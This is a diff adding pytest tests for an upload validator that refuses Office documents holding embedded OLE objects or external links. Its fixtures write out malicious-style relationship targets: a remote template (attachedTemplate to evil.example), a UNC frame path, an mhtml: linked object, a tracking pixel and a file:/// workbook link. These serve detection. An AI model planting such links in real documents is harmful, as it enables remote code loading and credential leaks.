@@ -24,6 +24,7 @@ from .conftest import english
 from .library_support import (
     EXCEL_MAIN,
     WORD_MAIN,
+    content_types,
     docx_bytes,
     office_bytes,
     pdf_bytes,
@@ -448,6 +449,135 @@ def test_a_docx_named_xlsx_is_told_its_kind(app, staff_client):
     """The kind comes from the declared main part: a DOCX named .xlsx is a Word document with the wrong name."""
     body = refused(app, english(staff_client), docx_bytes(), "台账.xlsx")
     assert "The file is a docx document, but its name doesn't end in .docx" in body
+
+
+# ---------------------------------------------------------------------------------------------- embedded objects, links
+
+OLE_FILE = formats.OLE_SIGNATURE + b"\0" * 504  # the header of an OLE compound file, as Word embeds objects
+OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def relationships(*entries: tuple[str, str, str]) -> str:
+    """A ``.rels`` part with one relationship per (type's last segment, target, target mode)."""
+    rows = "".join(
+        f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}{kind}" Target="{html.escape(target)}" TargetMode="{mode}"/>'
+        for n, (kind, target, mode) in enumerate(entries, start=1)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'
+    )
+
+
+def docx_with_default(extension: str, content_type: str, extra: dict[str, bytes]) -> bytes:
+    """A DOCX whose ``[Content_Types].xml`` gives ``extension`` the default ``content_type``, plus ``extra``."""
+    data = docx_bytes(extra=extra)
+    types = content_types({"word/document.xml": WORD_MAIN}, {extension: content_type})
+    return rewritten(data, {"[Content_Types].xml": types.encode()})
+
+
+@pytest.mark.parametrize(
+    ("data", "name", "part"),
+    [
+        (docx_bytes(extra={"word/embeddings/oleObject1.bin": OLE_FILE}), "合同.docx", "word/embeddings/oleObject1.bin"),
+        (
+            rewritten(xlsx_bytes(), {"xl/embeddings/oleObject1.bin": OLE_FILE}),
+            "台账.xlsx",
+            "xl/embeddings/oleObject1.bin",
+        ),
+        (docx_bytes(extra={"word/embeddings/OLEOBJECT2.BIN": b"\0"}), "合同.docx", "word/embeddings/OLEOBJECT2.BIN"),
+        (
+            docx_bytes(extra={"word/embeddings/Package.dat": OLE_FILE + b"\x01Ole10Native"}),
+            "合同.docx",
+            "word/embeddings/Package.dat",
+        ),
+        (
+            docx_bytes(extra={"word/embeddings/thing.dat": b"\0"}, **{"word/embeddings/thing.dat": OLE_TYPE}),
+            "合同.docx",
+            "word/embeddings/thing.dat",
+        ),
+        (
+            docx_with_default("bin", OLE_TYPE, {"word/embeddings/object.bin": b"\0"}),
+            "合同.docx",
+            "word/embeddings/object.bin",
+        ),
+    ],
+    ids=[
+        "word-ole-object",
+        "excel-ole-object",
+        "name-in-any-case",
+        "packager-by-content",
+        "override-type",
+        "default-type",
+    ],
+)
+def test_embedded_ole_objects_are_refused_naming_the_part(app, staff_client, data, name, part):
+    """An OLE object (by its name, its declared content type, or its content: an OLE compound file, as a packaged
+    file is) is refused, naming the part that holds it."""
+    body = refused(app, english(staff_client), data, name)
+    assert f"This file contains an embedded object ({part})." in body
+
+
+@pytest.mark.parametrize(
+    ("rels", "entry", "words"),
+    [
+        ("word/_rels/settings.xml.rels", ("attachedTemplate", "http://evil.example/t.dotm", "External"), "a template"),
+        ("word/_rels/webSettings.xml.rels", ("frame", "\\\\evil.example\\share\\f.html", "External"), "a frame"),
+        ("word/_rels/document.xml.rels", ("subDocument", "file:///C:/part.docx", "External"), "a sub-document"),
+        ("word/_rels/document.xml.rels", ("oleObject", "mhtml:http://evil.example/x.html!x", "External"), "an object"),
+        ("word/_rels/document.xml.rels", ("image", "http://evil.example/pixel.png", "external"), "a picture"),
+        (
+            "xl/externalLinks/_rels/externalLink1.xml.rels",
+            ("externalLinkPath", "file:///C:/secret.xlsx", "External"),
+            "another workbook's data",
+        ),
+    ],
+    ids=["template", "frame", "sub-document", "linked-object", "linked-picture-any-case", "external-workbook"],
+)
+def test_links_that_load_something_from_outside_are_refused_naming_them(app, staff_client, rels, entry, words):
+    """A relationship with ``TargetMode="External"`` that Office follows by itself on opening is refused, naming what
+    it loads and from where."""
+    data = rewritten(xlsx_bytes(), {rels: relationships(entry).encode()}) if rels.startswith("xl/") else None
+    data = data or docx_bytes(extra={rels: relationships(entry)})
+    body = refused(app, english(staff_client), data, "台账.xlsx" if rels.startswith("xl/") else "合同.docx")
+    assert f"This file contains a link that loads {words} from {entry[1]}." in body
+
+
+def test_hyperlinks_and_an_embedded_chart_workbook_are_accepted(app, staff_client):
+    """A hyperlink to outside (followed only when clicked) and an embedded workbook (a chart's data, a ZIP, not an
+    OLE object) are fine."""
+    links = relationships(("hyperlink", "https://www.gsxt.gov.cn/", "External"), ("styles", "styles.xml", "Internal"))
+    data = docx_with_default(
+        "xlsx",
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        {
+            "word/_rels/document.xml.rels": links.encode(),
+            "word/styles.xml": b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
+            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes("图表数据"),
+        },
+    )
+    assert accepted(app, staff_client, data, "合同.docx").kind == "docx"
+
+
+def test_many_objects_and_links_are_named_up_to_three(app, staff_client):
+    """Past three, the refusal names the first three and counts the rest."""
+    parts = {f"word/embeddings/oleObject{n}.bin": OLE_FILE for n in range(1, 5)}
+    parts["word/_rels/settings.xml.rels"] = relationships(("attachedTemplate", "http://evil.example/t", "External"))
+    body = refused(app, english(staff_client), docx_bytes(extra=parts), "合同.docx")
+    assert "(word/embeddings/oleObject3.bin), and 2 more." in body
+    assert "oleObject4" not in body and "evil.example" not in body
+
+
+def test_the_refusal_of_embedded_content_is_in_chinese(app, staff_client):
+    """In Chinese (the default) the refusal names the embedded object and the outside link in Chinese."""
+    parts = {
+        "word/embeddings/oleObject1.bin": OLE_FILE,
+        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "http://evil.example/t.dotm", "External")),
+    }
+    body = refused(app, staff_client, docx_bytes(extra=parts), "合同.docx")
+    assert "嵌入对象（word/embeddings/oleObject1.bin）" in body
+    assert "从 http://evil.example/t.dotm 加载模板的链接" in body
 
 
 def test_identify_reads_only(tmp_path, ctx, app, monkeypatch):
